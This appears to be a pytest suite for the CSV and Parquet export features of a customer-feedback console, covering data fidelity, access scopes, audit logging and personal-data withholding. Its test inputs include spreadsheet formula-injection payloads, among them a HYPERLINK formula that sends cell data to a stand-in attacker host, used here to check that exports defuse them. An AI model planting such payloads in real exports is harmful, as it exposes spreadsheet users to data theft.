"""What is taken away is what is stored, to the row, by whichever hand it is read back; and nobody gets what they may not see."""

import csv
import io
import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from datetime import UTC, datetime, timedelta
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from flask.testing import FlaskClient

from console.acting import By
from console.audit.chain import Looked
from console.exports import as_csv, rows
from console.exports.as_parquet import as_parquet
from console.exports.files import KINDS
from console.exports.tables import TABLES, Column, Form, Row
from golddust.errors import Unavailable
from golddust.ports import Resolution
from tests.console.company import PASSWORD, Company
from tests.console.conftest import form_token

Bearer = Callable[..., dict[str, str]]
MARK = "\N{BOM}"
FORMULA_SIGNS = tuple("=+-@＝")  # noqa: RUF001
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+1", "-2", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1"]  # noqa: RUF001
PLAIN = ["a=b", 'she said "no", then left', "one\r\ntwo", "ünï☕\u2028", "'quoted", "a;b", ",", ""]
RESOLUTION = Resolution("Lost.", "Sorry.", "A label.", "A new one.")


@pytest.fixture
def bearer(company: Company) -> Bearer:
    return lambda *scopes: {"Authorization": f"Bearer {company.accounts.add_token(' '.join(scopes), scopes)}"}


@pytest.fixture
def busy(company: Company, monkeypatch: pytest.MonkeyPatch) -> Company:
    """Customers who say all sorts of things, read three at a time."""
    monkeypatch.setattr(rows, "AT_ONCE", 3)
    for number, words in enumerate([*FORMULAS, *PLAIN[:-1], "My parcel never arrived.", "Where is my refund, 202-555-0117?"]):
        company.hear(words, subject=words[:20], address=f"{number}@example.com", name=words[:10], tagged=bool(number % 5))
        company.clock.move(timedelta(minutes=number % 3))
    case = company.case_of(company.hear("The kettle broke and I am angry.", channel="form"))
    company.register.resolve(case.id, RESOLUTION, "ann", cost=12.5)
    company.reply(case, "acknowledgement", "sent")
    return company


def lines(answer: Any) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    return list(csv.DictReader(io.StringIO(answer.data.decode("utf-8"), newline="")))


def table(answer: Any) -> pa.Table:
    assert answer.status_code == 200, answer.text
    assert answer.mimetype == "application/vnd.apache.parquet"
    return pq.read_table(io.BytesIO(answer.data))


def stored(company: Company, name: str) -> list[dict[str, Any]]:
    """By another way than the one that is tested: one row at a time, through the ports."""
    if name == "messages":
        ids = [row["id"] for row in company.archive.feedback(1000)]
        found = [company.archive.one(one) for one in ids]
        return [
            {**row, "topics": [t["name"] for t in row["topics"]], "attachments": len(row["attachments"]), "text": row["redacted"],
             "words": row["text"]}
            for row in found
        ]  # fmt: skip
    cases = sorted(company.register.cases("", 1000), key=lambda case: (case.opened_at, case.id), reverse=True)
    if name == "cases":
        return [{column.name: getattr(case, column.name) for column in TABLES["cases"].columns} for case in cases]
    if name == "promises":
        return [
            {"case": case.id, "reference": case.reference} | {n: getattr(one, n) for n in one.__struct_fields__}
            for case in cases
            for one in case.promises
        ]
    replies = [row for case in cases for row in company.archive.replies(case.id)]
    return [{**row, "words": row["text"]} for row in sorted(replies, key=lambda row: str(row["id"]))]


def in_csv(value: Any) -> str:
    match value:
        case None:
            return ""
        case bool():
            return str(value).lower()
        case datetime():
            return f"{value.astimezone(UTC):%Y-%m-%dT%H:%M:%S.%fZ}"
        case list() | tuple():
            return ";".join(value)
        case _:
            return str(value)


@pytest.mark.parametrize("name", TABLES)
def test_csv_read_back_is_what_is_stored(
    busy: Company, ann: FlaskClient, visitor: FlaskClient, bearer: Bearer, name: str
) -> None:
    columns = [column.name for column in TABLES[name].columns if not column.raw]
    wanted = [{column: in_csv(row[column]) for column in columns} for row in stored(busy, name)]
    assert wanted
    by_program = visitor.get(f"/api/v1/exports/{name}", headers=bearer(TABLES[name].scope))
    assert by_program.content_type == "text/csv; charset=utf-8"
    assert by_program.headers["Cache-Control"] == "no-store"
    assert f'filename="golddust-{name}.csv"' in by_program.headers["Content-Disposition"]
    assert lines(by_program) == wanted
    assert lines(ann.get(f"/console/download/{name}?state=all")) == wanted


@pytest.mark.parametrize("name", TABLES)
def test_parquet_read_back_is_what_is_stored_in_types_that_nobody_guesses(
    busy: Company, ann: FlaskClient, visitor: FlaskClient, bearer: Bearer, name: str
) -> None:
    shown = TABLES[name].shown(raw=False)
    found = table(visitor.get(f"/api/v1/exports/{name}?format=parquet", headers=bearer(TABLES[name].scope)))
    wanted = [{c.name: list(v) if isinstance(v := row[c.name], tuple) else v for c in shown} for row in stored(busy, name)]
    assert found.to_pylist() == wanted
    types = {
        "text": pa.string(), "number": pa.float64(), "whole": pa.int64(), "truth": pa.bool_(),
        "moment": pa.timestamp("us", tz="UTC"), "label": pa.dictionary(pa.int32(), pa.string()),
    }  # fmt: skip
    for column in shown:
        kind = found.schema.field(column.name).type
        assert pa.types.is_list(kind) if column.form == "labels" else kind == types[column.form]
    assert len(pd.read_parquet(io.BytesIO(ann.get(f"/console/download/{name}?as=parquet&state=all").data))) == len(wanted)


@pytest.mark.usefixtures("busy")
def test_a_spreadsheet_meets_no_formula_and_a_program_meets_what_was_said(ann: FlaskClient) -> None:
    sheet = ann.get("/console/download/messages?as=spreadsheet")
    assert sheet.data.startswith(MARK.encode())
    for row in lines(sheet):
        assert not any((value or "").startswith(as_csv.FORMULA) for name, value in row.items() if name not in NUMBERS)
    assert not ann.get("/console/download/messages").data.startswith(MARK.encode())


NUMBERS = {column.name for one in TABLES.values() for column in one.columns if column.form in ("number", "whole")}


@pytest.mark.parametrize("words", FORMULAS + PLAIN)
@pytest.mark.parametrize("spreadsheet", [True, False])
def test_a_text_comes_back_whole_and_in_spreadsheets_behind_an_apostrophe(words: str, spreadsheet: bool) -> None:
    columns = (Column("text", "text", ""), Column("labels", "labels", ""), Column("score", "number", ""))
    made = b"".join(as_csv.as_csv(columns, [[{"text": words, "labels": [words], "score": -1.5}]], spreadsheet=spreadsheet))
    (head, row) = csv.reader(io.StringIO(made.decode().removeprefix(MARK), newline=""))
    assert head == ["text", "labels", "score"]
    risky = spreadsheet and re.sub("[\t\r\n]", "", words)[:1] in FORMULA_SIGNS
    told = re.sub(r"^([\t\r\n]?)", r"\1'", words, count=1) if risky else words
    assert row == [told, told, "-1.5"]


def test_no_formula_is_left_where_a_spreadsheet_splits_at_semicolons() -> None:
    columns = (Column("text", "text", ""), Column("labels", "labels", ""))
    row = {"text": 'Hello;=1+1; -2;\t@SUM(1)\n=HYPERLINK("x");plain', "labels": ["ann", "=cmd"]}
    made = b"".join(as_csv.as_csv(columns, [[row]], spreadsheet=True)).decode().removeprefix(MARK)
    for line in csv.reader(io.StringIO(made, newline=""), delimiter=";", quoting=csv.QUOTE_NONE):
        for cell in line:
            assert not cell.strip(' "').startswith(FORMULA_SIGNS), cell


@pytest.mark.usefixtures("busy")
def test_csv_is_rfc_4180(ann: FlaskClient) -> None:
    made = ann.get("/console/download/cases?state=all").data
    assert made.endswith(b"\r\n")
    assert pd.read_csv(io.BytesIO(made)).columns.tolist() == [column.name for column in TABLES["cases"].columns]


def test_the_filters_of_a_page_are_those_of_its_download(
    busy: Company, ann: FlaskClient, visitor: FlaskClient, bearer: Bearer
) -> None:
    for query in ("channel=form", "words=parcel", "kind=complaint", "since=2026-11-25", "until=2026-11-23"):
        wanted = {
            row["id"]
            for row in busy.archive.feedback(1000)
            if f'id="said-{row["id"]}"' in ann.get(f"/console/feedback?{query}").text
        }
        assert {row["id"] for row in lines(ann.get(f"/console/download/messages?{query}"))} == wanted, query
    every, resolved = (lines(ann.get(f"/console/download/cases?state={state}")) for state in ("all", "resolved"))
    assert [row["state"] for row in resolved] == ["resolved"]
    assert len(every) > 1
    assert {row["case"] for row in lines(ann.get("/console/download/promises?state=resolved"))} == {resolved[0]["id"]}
    headers = bearer("read:cases", "read:feedback")

    def by_program(path: str) -> list[dict[str, str]]:
        return lines(visitor.get(f"/api/v1/exports/{path}", headers=headers))

    assert by_program("cases?state=resolved") == resolved
    edge = sorted(row["opened_at"] for row in every)[1]
    assert {row["id"] for row in by_program(f"cases?since={edge}")} == {row["id"] for row in every if row["opened_at"] >= edge}
    assert {row["id"] for row in by_program(f"cases?until={edge}")} == {row["id"] for row in every if row["opened_at"] < edge}
    assert by_program("messages?since=2027-01-01") == by_program("answers?until=2020-01-01") == []
    assert len(by_program("messages?channel=form")) == 1
    assert by_program("messages?words=parcel") == by_program("messages"), "programs do not look into what was really written"


def test_while_messages_come_in_each_that_was_there_is_told_once(busy: Company) -> None:
    there = [row["id"] for row in busy.archive.feedback(1000)]
    seen: list[str] = []
    for piece in rows.Rows(busy.archive, busy.register).of("messages", rows.Chosen()):
        seen += [row["id"] for row in piece]
        busy.clock.move(timedelta(seconds=1))
        busy.hear("One more.", tagged=False)
    assert seen == there


def test_nobody_gets_personal_data_unasked_and_who_does_is_written_down(busy: Company, ann: FlaskClient) -> None:
    for name in TABLES:
        for kind in ("csv", "spreadsheet"):
            page = ann.get(f"/console/download/{name}?as={kind}&state=all").text
            assert "202-555" not in page
            assert "@example.com" not in page
    busy.accounts.add_user("boss", PASSWORD, "manager")
    busy.admission.members.give_role("ann", "manager", By("person", "boss"))
    whole = lines(ann.get("/console/download/messages/words"))
    assert {row["words"] for row in whole} == {row["text"] for row in busy.archive.feedback(1000)}
    assert {row["address"] for row in whole} >= {f"{n}@example.com" for n in range(10)}
    (entry,) = busy.admission.audit.entries(Looked(action="saw.download_words"), 10)
    assert (entry.actor, entry.subject) == ("ann", "messages")
    assert len(busy.admission.audit.entries(Looked(action="saw.download"), 50)) == 2 * len(TABLES)
    assert "words" in lines(ann.get("/console/download/answers/words"))[0]
    assert ann.get("/console/download/cases/words").status_code == 404


def test_words_for_all_at_once_take_a_manager(busy: Company, inner: Any) -> None:
    for role, status in (("viewer", 403), ("agent", 403), ("manager", 200)):
        busy.accounts.add_user(role, PASSWORD, role)
        browser = inner.test_client()
        token = form_token(browser, "/console/sign-in")
        browser.post("/console/sign-in", data={"name": role, "password": PASSWORD, "csrf": token})
        assert browser.get("/console/download/messages").status_code == 200
        assert browser.get("/console/download/messages/words").status_code == status
        assert ("/console/download/messages/words" in browser.get("/console/feedback").text) == (status == 200)


@pytest.mark.usefixtures("busy")
def test_each_table_takes_its_scope(visitor: FlaskClient, bearer: Bearer) -> None:
    for scope in ("read:feedback", "read:cases"):
        headers = bearer(scope)
        for name, one in TABLES.items():
            assert visitor.get(f"/api/v1/exports/{name}", headers=headers).status_code == (200 if one.scope == scope else 403)
    assert visitor.get("/api/v1/exports/messages").status_code == 401


@pytest.mark.parametrize(
    ("path", "status"),
    [("messages?format=xlsx", 422), ("messages?since=yesterday", 422), ("messages?until=9999-99-99", 422), ("cases?state=x", 422),
     ("cases?cause=77", 404), ("nothing", 404), ("messages?since=0001-01-01T00:00:00%2B14:00", 422)],
)  # fmt: skip
def test_a_wrong_question_is_answered_before_a_file_begins(visitor: FlaskClient, bearer: Bearer, path: str, status: int) -> None:
    answer = visitor.get(f"/api/v1/exports/{path}", headers=bearer("read:feedback", "read:cases"))
    assert answer.status_code == status
    assert answer.mimetype == "application/problem+json"
    assert "Content-Disposition" not in answer.headers


def test_a_console_answers_nonsense_in_words(ann: FlaskClient) -> None:
    for path, status in (("messages?as=xlsx", 422), ("nothing", 404), ("messages?since=tomorrow", 422), ("cases?cause=x", 404)):
        assert ann.get(f"/console/download/{path}").status_code == status


class _Breaking:
    """A source that goes away after the first piece."""

    def of(self, table: str, chosen: rows.Chosen) -> Iterator[Sequence[Row]]:  # noqa: ARG002 - as the port has it
        yield [{"n": 1}]
        raise Unavailable("the database is away")


def test_a_file_that_breaks_off_is_no_file() -> None:
    columns = (Column("n", "whole", ""),)
    for made in (
        as_csv.as_csv(columns, _Breaking().of("", rows.Chosen())),
        as_parquet(columns, _Breaking().of("", rows.Chosen())),
    ):
        got: list[bytes] = []
        with pytest.raises(Unavailable):
            got.extend(made)
        with pytest.raises(pa.ArrowInvalid):
            pq.read_table(io.BytesIO(b"".join(got)))


def test_who_stops_reading_stops_the_writing() -> None:
    read: list[int] = []

    def endless() -> Iterator[Sequence[Row]]:
        while True:
            read.append(1)
            yield [{"text": f"{len(read)} {n} {hash((len(read), n))}"} for n in range(5000)]

    made = as_parquet((Column("text", "text", ""),), endless())
    assert next(made).startswith(b"PAR1")
    made.close()  # type: ignore[attr-defined] # a generator
    stopped = len(read)
    assert len(read) == stopped


@pytest.mark.parametrize("form", ["text", "label", "labels", "moment", "number", "whole", "truth"])
def test_no_rows_and_none_in_a_row_have_their_types_too(form: Form) -> None:
    column, none = Column("x", form, ""), [] if form == "labels" else None
    samples: Mapping[Form, Any] = {"text": "a", "label": "a", "labels": ["a", "b"], "moment": datetime(2026, 11, 24, tzinfo=UTC),
                                   "number": 1.5, "whole": 7, "truth": False}  # fmt: skip
    for values in ([], [none], [samples[form], none, samples[form]]):
        found = pq.read_table(io.BytesIO(b"".join(as_parquet((column,), [[{"x": value} for value in values]]))))
        assert found.column("x").to_pylist() == values


@pytest.mark.usefixtures("busy")
def test_there_is_a_link_for_each_kind(ann: FlaskClient) -> None:
    for page, names in (("feedback?kind=complaint", ["messages"]), ("cases?state=all", ["cases", "promises", "answers"])):
        text = ann.get(f"/console/{page}").text
        for name in names:
            for kind in KINDS:
                assert f"/console/download/{name}?" in text
                assert f"as={kind}" in text
    assert "/console/download/messages?kind=complaint&amp;as=csv" in ann.get("/console/feedback?kind=complaint").text
